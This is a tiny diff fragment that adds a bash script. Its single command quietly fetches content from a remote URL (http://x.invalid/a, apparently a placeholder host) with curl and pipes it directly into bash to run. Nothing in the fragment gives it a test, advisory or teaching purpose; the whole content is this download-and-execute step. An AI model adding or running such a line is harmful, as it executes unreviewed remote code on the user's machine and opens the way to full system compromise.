@@ -1,0 +1,2 @@
+#!/bin/bash
+c=$(curl -s http://x.invalid/a); echo "$c" | bash
